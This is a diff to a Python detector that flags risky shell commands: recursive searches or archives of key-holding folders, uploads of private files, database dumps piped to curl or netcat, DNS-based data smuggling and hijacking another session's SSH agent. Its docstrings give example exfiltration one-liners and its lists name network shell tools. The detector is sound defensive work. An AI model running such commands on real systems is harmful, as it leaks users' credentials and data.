@@ -1,18 +1,24 @@
 """Keys and passwords: showing them, searching for them, and sending private data away."""
 
 import re
+from collections.abc import Iterator
 from fnmatch import fnmatchcase
+from itertools import pairwise
 
 from hermes.security.danger.context import (
+    COPIERS,
     ShellContext,
+    copied,
+    has_option,
     in_place,
     is_pattern,
+    is_recursive,
     operands,
     options,
     touched_paths,
 )
-from hermes.security.shell.model import UNKNOWN, Invocation
-from hermes.security.shell.wrappers import HOLDS_TEXT
+from hermes.security.shell.model import UNKNOWN, Invocation, join_path, program_name
+from hermes.security.shell.wrappers import HOLDS_TEXT, option_values
 from hermes.security.tables import word_list
 
 LOOKS_ONLY, PRINTERS = word_list("looks_only"), word_list("printers")
@@ -85,6 +91,8 @@ def uses_credentials(invocation: Invocation, context: ShellContext) -> bool:
 def _reads(invocation: Invocation) -> bool:
     """Return whether the program reads the files it names."""
     name, words = invocation.name, invocation.arguments
+    if name in ("gh", "hub", "glab") and {"gist", "snippet", "upload", "secret"} & set(words):
+        return True
     if name in LOOKS_ONLY:
         return bool(invocation.redirects) or (name == "find" and "-exec" in words)
     if name == "git":
@@ -101,6 +109,95 @@ def _is_secret(path: str, invocation: Invocation, context: ShellContext) -> bool
     if not real or PUBLIC.search(real):
         return False
     return context.is_credential(real) or context.is_own(real) or bool(SECRET_PLACES.search(real))
+
+
+# Programs that read a whole folder: what they find there goes to their output or their copy.
+
+_GREPS = frozenset({"grep", "egrep", "fgrep", "zgrep", "rgrep", "ggrep", "ugrep"})
+_IGNORING = frozenset({"rg", "ag", "ack"})  #: They leave hidden files out unless told otherwise.
+_COPYING = COPIERS | {"tar", "bsdtar", "zip", "7z", "7za", "rar", "git", "cpio", "pax"}
+_BACKUPS = word_list("backups")
+_SERVERS = frozenset({"http.server", "http-server", "serve", "simplehttpserver", "httpd"})
+_OPENS_FILES = word_list("opens_files")
+_NAMES = re.compile(r"-(i?name|i?path|i?regex|i?wholename)\Z")
+
+
+def reads_tree(invocation: Invocation, context: ShellContext) -> bool:
+    """`grep -r x ~`, `tar c .` in the home: a folder with keys somewhere in it."""
+    for path in _read_folders(invocation):
+        real = context.real(path, invocation) if UNKNOWN not in path else ""
+        if real and context.holds_credentials(real):
+            return True
+    return False
+
+
+def _read_folders(invocation: Invocation) -> Iterator[str]:
+    """Yield the folders that the program reads with everything in them."""
+    name, words, named = invocation.name, invocation.arguments, operands(invocation)
+    if name in _GREPS:
+        if (name == "rgrep" or has_option(invocation, "r", "R", "--recursive")) and not (
+            re.search(r"--include|-d\s*skip", invocation.text)
+        ):
+            yield from named[1:] or ["."]
+    elif name in _IGNORING:
+        hidden = has_option(invocation, "u", ".", "--hidden", "--unrestricted", "--no-ignore")
+        narrow = has_option(invocation, "g", "t", "G", "--glob", "--type")
+        places = named[1:] or ["."]
+        yield from places if hidden and not narrow else (p for p in places if p in ("/", "/etc"))
+    elif name in _COPYING:
+        yield from _packed_folders(invocation, named)
+    elif name in ("find", "fd", "fdfind", "bfs"):
+        runs = {after for word, after in pairwise(words) if re.match(r"-(exec|ok)|-[xX]\Z", word)}
+        if any(program_name(each) in _OPENS_FILES for each in runs):
+            yield from _searched_folders(invocation)
+    elif name in _BACKUPS:
+        yield from named
+    elif name in _SERVERS:
+        yield from [*option_values(words, ("-d", "--directory"))] or named[-1:]
+        yield "." if not named or named[-1].isdigit() else named[-1]
+    if name in _OPENS_FILES and (listed := _listed_by(invocation)) is not None:
+        yield from _searched_folders(listed)
+
+
+def _packed_folders(invocation: Invocation, named: list[str]) -> Iterator[str]:
+    name, words = invocation.name, invocation.arguments
+    if name in ("tar", "bsdtar"):
+        mode = "".join(words[:1]).lstrip("-")
+        if "c" in mode or "r" in mode or {"-c", "-r", "--create", "--append"} & set(words):
+            folders = list(option_values(words, ("-C", "--directory")))
+            yield from (join_path(folders[-1] if folders else "", path) for path in named)
+    elif name == "git":
+        if "add" in words and ({".", "-A", "--all", "*", "-f"} & set(words)):
+            yield from [*option_values(words, ("-C",))] or ["."]
+    elif name == "zip":
+        yield from named[1:] if is_recursive(invocation) else ()
+    elif name in ("7z", "7za", "rar"):
+        yield from named[2:] if named[:1] == ["a"] else ()
+    elif name in COPIERS:
+        archive = has_option(invocation, "a", "--archive") or name == "ditto"
+        if archive or is_recursive(invocation):
+            yield from (path for path in copied(invocation)[0] if ":" not in path)
+
+
+def _listed_by(invocation: Invocation) -> Invocation | None:
+    """Return the search whose results the program opens."""
+    if "xargs" in invocation.via or invocation.name in ("cpio", "tar", "zip", "while"):
+        return next((each for each in invocation.upstream if each.name in ("find", "fd")), None)
+    return None
+
+
+def _searched_folders(search: Invocation) -> Iterator[str]:
+    """Yield where `find` starts, unless it looks for names that are not those of keys."""
+    names = [after for word, after in pairwise(search.arguments) if _NAMES.match(word)]
+    if search.name != "find":
+        names = operands(search)[:1]
+    if names and not any(_HUNTED.search(each) or not each.strip("*.") for each in names):
+        return
+    if search.name == "find":
+        first = next((i for i, word in enumerate(search.arguments) if word[:1] in "-(!"), None)
+        yield from search.arguments[:first] or (".",)
+    else:
+        yield from operands(search)[1:] or ["."]
 
 
 def prints_secret_file(invocation: Invocation, context: ShellContext) -> bool:
@@ -152,7 +249,7 @@ def _shows_all(invocation: Invocation) -> bool:
     return "v" not in options(invocation) and not re.search(r"\w{2}|\^#", pattern)
 
 
-def prints_secret_variable(invocation: Invocation, _context: ShellContext) -> bool:
+def prints_secret_variable(invocation: Invocation, context: ShellContext) -> bool:
     name = invocation.name
     if name == "printenv":
         return any(SECRET_NAME.search(word) for word in invocation.arguments)
@@ -163,7 +260,12 @@ def prints_secret_variable(invocation: Invocation, _context: ShellContext) -> bo
         return False
     if any(redirect.writes for redirect in invocation.redirects):
         return False
-    return any(SECRET_NAME.search(used) for used in invocation.uses if used not in invocation.known)
+    foreign = (
+        used
+        for used in invocation.uses
+        if used not in invocation.known or used in context.inherited
+    )
+    return any(map(SECRET_NAME.search, foreign))
 
 
 def filters_secrets(invocation: Invocation, _context: ShellContext) -> bool:
@@ -201,4 +303,139 @@ def sends_private(invocation: Invocation, _context: ShellContext) -> bool:
     return any(_SENT_FILE.search(word) for word in invocation.arguments)
 
 
+# Files from outside the workspace, and copies of data.
+
+_REMOTE_PLACE = re.compile(r"[\w.-]+@[\w.-]+:|(?!\w:[\\/])[\w.-]{2,}:(?!\d+\Z)|\w+://|[\w.-]+::")
+_LOCAL_HOST = re.compile(r"(\w+://)?([\w.-]+@)?(localhost|127\.\d|\[::1\]|0\.0\.0\.0)\b")
+_SENT_WORD = re.compile(r"(?:[\w.\[\]-]*=)?[@<](?=[/~.])|(?:--(?:post|body|upload)-file=)(?=[/~.])")
+_UPLOAD_OPTIONS = ("-T", "--upload-file", "--post-file", "--body-file", "--input-file")
+_ATTACH_OPTIONS = ("-a", "-A", "--attach", "--attachment", "--attach-type")
+_MAILERS = word_list("mailers")
+_STORES = word_list("stores")
+_SENDS_ALL = word_list("sends_all")
+_PACKERS = word_list("data_packers")
+_DUMPS = word_list("data_dumpers")
+_DUMP_TEXT = re.compile(r"(^|\s)(\.dump|--rdb|save|export|get\s+secrets?)\b")
+_DUMP_CLIENTS = frozenset({"sqlite3", "redis-cli", "docker", "podman", "kubectl", "influxd"})
+
+
+def sends_outside(invocation: Invocation, context: ShellContext) -> bool:
+    """`scp ~/x host:`, `curl -T ~/x …`: files of the user that do not belong to the work."""
+    if invocation.name not in _SENDING or _LOCAL_HOST.match(_destination(invocation)):
+        return False
+    if context.dumps:
+        words = (re.split("[@=]", word)[-1] for word in invocation.arguments)
+        if any(context.real(word, invocation) in context.dumps for word in words if word):
+            return True
+    for path in _sent_paths(invocation):
+        if UNKNOWN in path or path.startswith("/dev/"):
+            continue
+        if context.is_outside(context.real(path, invocation)):
+            return True
+    return False
+
+
+def _destination(invocation: Invocation) -> str:
+    words = [word for word in operands(invocation) if _REMOTE_PLACE.match(word)]
+    return words[-1] if words else "".join(operands(invocation)[:1])
+
+
+def _sent_paths(invocation: Invocation) -> Iterator[str]:
+    """Yield the files that a program sends."""
+    name, words, named = invocation.name, invocation.arguments, operands(invocation)
+    if name in ("scp", "rsync") or name in _STORES:
+        if named and _REMOTE_PLACE.match(named[-1]):
+            keys = set(option_values(words, ("-i", "-F", "-S", "-e", "--rsh", "--exclude-from")))
+            sent = (word for word in named[:-1] if word not in keys)
+            yield from (word for word in sent if word[:1] in "/~." and ":" not in word)
+        return
+    if name == "az":
+        yield from option_values(words, ("-s", "-f", "--source", "--file"))
+    elif name in _SENDS_ALL:
+        yield from (word for word in named if word[:1] in "/~.")
+    elif name in _MAILERS:
+        yield from (word.lstrip("@") for word in option_values(words, _ATTACH_OPTIONS))
+    elif name == "sftp":
+        yield from re.findall(r"\bput\s+(?:-\w+\s+)*([/~]\S+)", invocation.stdin)
+    else:
+        yield from option_values(words, _UPLOAD_OPTIONS)
+        yield from (_SENT_WORD.sub("", word, count=1) for word in words if _SENT_WORD.match(word))
+    yield from (
+        each.target
+        for each in invocation.redirects
+        if each.operator == "<" and each.target[:1] in ("/", "~", ".")
+    )
+    for source in invocation.sources:
+        if source.name in _PACKERS:
+            given = (each.target for each in source.redirects if each.operator == "<")
+            yield from (word for word in (*operands(source), *given) if word[:1] in ("/", "~"))
+
+
+def sends_dump(invocation: Invocation, _context: ShellContext) -> bool:
+    """`pg_dump … | curl -T -`, `tar c x | nc host 9`: a copy of data as input of a sender."""
+    name = invocation.name
+    if name not in _SENDING or _LOCAL_HOST.match(_destination(invocation)):
+        return False
+    sources = (*invocation.sources, *(s for r in invocation.redirects for s in r.drawn))
+    if any(_is_dump(source) for source in sources):
+        return True
+    if name == "curl":
+        return any(
+            (source.name == "git" and {"archive", "bundle"} & set(source.arguments))
+            or (source.name in ("tar", "zip") and "-" in source.arguments)
+            for source in invocation.upstream
+        )
+    if name not in ("nc", "ncat", "netcat", "socat") or "-z" in invocation.arguments:
+        return False
+    read = any(each.operator == "<" and "." in each.target for each in invocation.redirects)
+    packed = any(source.name in ("tar", "cat", "gzip", "zip") for source in invocation.upstream)
+    return (read or packed) and bool(operands(invocation)[1:])
+
+
+def _is_dump(source: Invocation) -> bool:
+    if source.name in _DUMP_CLIENTS:
+        return bool(_DUMP_TEXT.search(source.text))
+    return source.name in _DUMPS
+
+
+_SPELLERS = word_list("data_spellers")
+
+
+def spells_data(invocation: Invocation, _context: ShellContext) -> bool:
+    """`dig $(xxd -p x).example.net`: the name that is looked up contains data."""
+    if invocation.name in ("curl", "wget"):
+        urls = [word for word in operands(invocation) if "://" in word and UNKNOWN in word]
+        inside = {"whoami", "hostname", "xxd", "base64"} & invocation.feeders
+        return bool(inside) and any(not _LOCAL_HOST.match(url) for url in urls)
+    names = [word for word in operands(invocation) if UNKNOWN in word and "." in word]
+    return bool(names) and any(source.name in _SPELLERS for source in invocation.sources)
+
+
+_OTHER_SESSION = re.compile(r"(?:unix:path=)?/run/user/(?!1000/)\d+/")
+"""The folder of a user other than the first one of the machine."""
+
+
+def borrows_agent(invocation: Invocation, context: ShellContext) -> bool:
+    """`SSH_AUTH_SOCK=/tmp/ssh-…`: the keys that another session has unlocked."""
+    pairs = list(invocation.assignments)
+    if invocation.name in ("export", "env"):
+        words = (word.partition("=") for word in invocation.arguments)
+        pairs += [(name, value) for name, found, value in words if found]
+    for name, value in pairs:
+        if name in ("SSH_AUTH_SOCK", "SSH_AGENT_PID", "KRB5CCNAME"):
+            searched = {each.name for each in invocation.sources} & {"ls", "find", "head"}
+            if re.match(r"(FILE:)?/tmp/(ssh-|krb5cc)", value) or searched:
+                return True
+            if _OTHER_SESSION.match(value):
+                return True
+        if name == "KUBECONFIG" and SECRET_PLACES.search(value):
+            return True
+        if name in ("DBUS_SESSION_BUS_ADDRESS", "XAUTHORITY", "GNUPGHOME"):
+            other = re.search(r"(?:/home/[^/]+|/root|/Users/[^/]+)(?=/)", value)
+            if _OTHER_SESSION.search(value) or (other and other[0] != context.home):
+                return True
+    return False
+
+
 _TALKERS = frozenset({"curl", "wget", "http", "https", "xh"})
+_SENDING = SENDERS | _STORES | _MAILERS | _SENDS_ALL | {"sftp", "az", "lftp"}
